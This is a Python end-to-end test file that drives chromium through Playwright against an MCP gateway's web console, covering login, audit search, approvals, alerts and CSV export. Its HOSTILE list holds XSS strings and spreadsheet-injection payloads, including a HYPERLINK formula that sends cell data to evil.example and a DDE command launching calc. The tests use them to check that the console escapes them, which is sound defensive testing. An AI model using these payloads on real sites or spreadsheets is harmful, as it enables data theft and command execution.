"""The console in a real browser: Playwright driving Debian's chromium (never a downloaded browser)
against a gateway under uvicorn. Every test fails on a browser console error, a page error, a
Content-Security-Policy violation or a dialog; each page is screenshotted into ``ARTIFACTS``.

``MCP_GATEWAY_README_SHOTS=1`` also writes the README's two screenshots to ``docs/img/``.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from console_support import (
    ARTIFACTS,
    ConsoleGateway,
    close_clients,
    gateway_for_module,
)

from conftest import wait_until

pytestmark = pytest.mark.e2e


@pytest.fixture(scope="module")
def console_gateway(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ConsoleGateway]:
    yield from gateway_for_module(tmp_path_factory)


@pytest.fixture(autouse=True)
def _closed_clients() -> Iterator[None]:
    yield from close_clients()


playwright_api = pytest.importorskip("playwright.sync_api")

CHROMIUM = os.environ.get("MCP_GATEWAY_CHROMIUM", "/usr/bin/chromium")
DOCS_IMG = Path(__file__).resolve().parents[2] / "docs" / "img"
WAIT_MS = 10_000
WATCH = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (e) => {
  window.__violations.push(e.violatedDirective + " " + e.blockedURI);
});
"""
HOSTILE = [
    "<script>window.__pwned = 1</script>",
    '<img src=x onerror="window.__pwned = 2">',
    "javascript:window.__pwned=3",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
]


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    if not Path(CHROMIUM).is_file():
        pytest.fail(f"no chromium at {CHROMIUM}: `apt-get install -y chromium` (never `playwright install`)")
    with playwright_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM)
        yield browser
        browser.close()


class Watched:
    """A page whose console errors, page errors, CSP violations and dialogs are collected."""

    def __init__(self, page: Any) -> None:
        self.page = page
        self.problems: list[str] = []
        page.on("console", lambda m: m.type == "error" and self.problems.append(f"console: {m.text}"))
        page.on("pageerror", lambda e: self.problems.append(f"page error: {e}"))
        page.on("dialog", self._dialog)
        page.add_init_script(WATCH)

    def _dialog(self, dialog: Any) -> None:
        self.problems.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def check(self) -> None:
        """Fail on anything collected so far (CSP violations read from the current document)."""
        violations = self.page.evaluate("window.__violations || []")
        pwned = self.page.evaluate("window.__pwned === undefined ? null : window.__pwned")
        assert self.problems == [] and violations == [] and pwned is None, (self.problems, violations, pwned)

    def shot(self, name: str) -> Path:
        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        path = ARTIFACTS / f"{name}.png"
        self.page.screenshot(path=str(path), full_page=True)
        return path


@pytest.fixture
def page(browser: Any, console_gateway: ConsoleGateway) -> Iterator[Watched]:
    context = browser.new_context(viewport={"width": 1360, "height": 900})
    watched = Watched(context.new_page())
    watched.page.set_default_timeout(WAIT_MS)
    yield watched
    try:
        watched.check()
    finally:
        context.close()


def log_in(watched: Watched, gw: ConsoleGateway, person: str) -> None:
    page = watched.page
    page.goto(f"{gw.console}/login")
    page.fill("#token", gw.admin_tokens[person])
    page.click("#login")
    page.wait_for_url(f"{gw.console}/audit")
    assert page.inner_text("#who") == f"{person} · {gw.settings.console.roles[person]}"


def readme_shot(path: Path, name: str) -> None:
    if os.environ.get("MCP_GATEWAY_README_SHOTS") == "1":
        DOCS_IMG.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(path, DOCS_IMG / name)


def test_an_approver_logs_in_filters_opens_a_record_and_approves_a_parked_call(
    page: Watched, console_gateway: ConsoleGateway
) -> None:
    gw = console_gateway
    gw.call("note.echo", {"text": "quarterly numbers", "code": "s3cret-code"})
    assert gw.call("note.delete_all", {"confirm": True})["is_error"]  # denied: not granted
    approval_id = gw.park("raise the budget to 12000")
    log_in(page, gw, "april")
    p = page.page
    readme_shot(page.shot("audit"), "console-audit.png")
    p.fill("input[name=tool]", "note.e*")
    p.select_option("select[name=decision]", "allow")
    p.click("#search")
    p.wait_for_url("**/audit?**tool=note.e*")
    tools = p.locator("#record-rows tr td:nth-child(5)").all_inner_texts()
    assert tools and set(tools) == {"note.echo"}
    page.shot("audit-filtered")
    p.locator("#record-rows a").first.click()
    p.wait_for_selector("#chain-position")
    assert "SENSITIVE stored only as HMAC" in p.inner_text("#args") and "s3cret-code" not in p.content()
    page.shot("record")
    p.click("nav >> text=Approvals")
    card = p.locator(f"#approval-{approval_id}")
    assert "raise the budget to 12000" in card.inner_text()
    readme_shot(page.shot("approvals"), "console-approvals.png")
    card.locator("input.note").fill("within the quarter's plan")
    card.locator("button.approve").click()
    assert f"{approval_id} is approved" in p.inner_text("#flash")
    approval = gw.runtime.approvals.get(approval_id)  # type: ignore[union-attr]
    assert (
        approval is not None
        and approval.decided_by == "april"
        and approval.note == "within the quarter's plan"
    )


def test_every_page_renders_cleanly_and_an_admin_runs_verify_with_progress(
    page: Watched, console_gateway: ConsoleGateway
) -> None:
    log_in(page, console_gateway, "alice")
    p = page.page
    for slug in ("chain", "agents", "policy", "pins", "quotas"):
        p.click(f"nav a[href='/console/{slug}']")
        p.wait_for_selector("main h1")
        page.shot(slug)
    p.click("nav a[href='/console/chain']")
    p.click("#verify-now")
    p.wait_for_selector("#verify-status[data-state=done]")
    assert "done: ok" in p.inner_text("#verify-status")
    assert p.evaluate("document.getElementById('verify-progress').value") == p.evaluate(
        "document.getElementById('verify-progress').max"
    )
    page.shot("chain-verified")
    p.reload()  # the run is an audit record now: the page's "last verify" names it
    assert p.inner_text("#last-verify").startswith("ok") and "by alice" in p.inner_text("#last-verify")


def test_the_live_stream_adds_a_new_record_without_a_reload(
    page: Watched, console_gateway: ConsoleGateway
) -> None:
    log_in(page, console_gateway, "victor")
    p = page.page
    p.wait_for_selector("#live-note")
    console_gateway.call("note.echo", {"text": "streamed-live"})
    newest = console_gateway.audit()[-1].seq
    p.wait_for_selector(f"#record-rows tr.fresh a[href='/console/audit/{newest}']")
    page.shot("audit-live")


def test_hostile_arguments_and_upstream_text_are_shown_escaped_and_never_run(
    page: Watched, console_gateway: ConsoleGateway
) -> None:
    gw = console_gateway
    for payload in HOSTILE:
        gw.call("note.echo", {"text": payload})
    assert gw.call(HOSTILE[0], {"x": HOSTILE[2]})["is_error"]  # a tool name is the agent's text too
    approval_id = gw.park(HOSTILE[0] + " " + HOSTILE[2])
    pins = gw.runtime.pins
    assert pins is not None
    pins.pin("evil", "lookup", "a" * 64, '{"description": "look things up"}')
    pins.present("evil", "lookup", "b" * 64, '{"description": "' + HOSTILE[1] + " " + HOSTILE[0] + '"}')
    log_in(page, gw, "alice")
    p = page.page
    assert HOSTILE[0] in p.inner_text("#record-rows")
    gw.call("note.echo", {"text": HOSTILE[1]})  # arrives through the live stream too
    newest = gw.audit()[-1].seq
    p.wait_for_selector(f"#record-rows tr.fresh a[href='/console/audit/{newest}']")
    page.shot("hostile-audit")
    p.reload()  # the denied call raised an alert: the banner shows it, escaped
    p.wait_for_selector("#alert-banner")
    assert "denial_burst" in p.inner_text("#alert-banner")
    intent = next(r for r in reversed(gw.audit()) if r.kind == "intent" and r.args.get("text") == HOSTILE[3])
    p.goto(f"{gw.console}/audit/{intent.seq}")
    assert HOSTILE[3] in p.inner_text("#args")
    p.goto(f"{gw.console}/approvals")
    assert HOSTILE[0] in p.inner_text(f"#approval-{approval_id}")
    p.goto(f"{gw.console}/pins")
    assert HOSTILE[1] in p.inner_text("pre.diff")
    page.shot("hostile-pins")
    assert p.locator("a[href^='javascript:']").count() == 0 and p.locator("img").count() == 0
    assert p.locator("main script").count() == 0


def test_an_approver_acknowledges_an_alert_from_the_banner_and_exports_the_filter_as_csv(
    page: Watched, console_gateway: ConsoleGateway
) -> None:
    gw = console_gateway
    board = gw.runtime.alerts
    assert board is not None
    assert gw.call(HOSTILE[3], {"x": HOSTILE[4]})["is_error"]  # denied: raises denial_burst (or adds to it)
    wait_until(lambda: any(a.rule == "denial_burst" for a in board.active()), what="a denial_burst alert")
    alert = next(a for a in board.active() if a.rule == "denial_burst")
    log_in(page, gw, "april")
    p = page.page
    p.wait_for_selector(f"#banner-{alert.id}")
    p.click(f"#banner-{alert.id} button.acknowledge")
    p.wait_for_selector("#flash")
    assert "acknowledged by april" in p.inner_text("#flash")
    assert p.locator(f"#banner-{alert.id}").count() == 0
    p.click("nav >> text=Alerts")
    p.wait_for_selector(f"#alert-{alert.id}")
    assert "by april" in p.inner_text(f"#alert-{alert.id} .ack-state")
    page.shot("alerts")
    p.click("nav >> text=Audit")
    p.select_option("select[name=decision]", "deny")
    p.click("#search")
    p.wait_for_url("**/audit?**decision=deny**")
    with p.expect_download() as info:
        p.click("#export-csv")
    text = Path(info.value.path()).read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + HOSTILE[3] in cells and not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
    assert {row[5] for row in rows[1:]} == {"deny"}
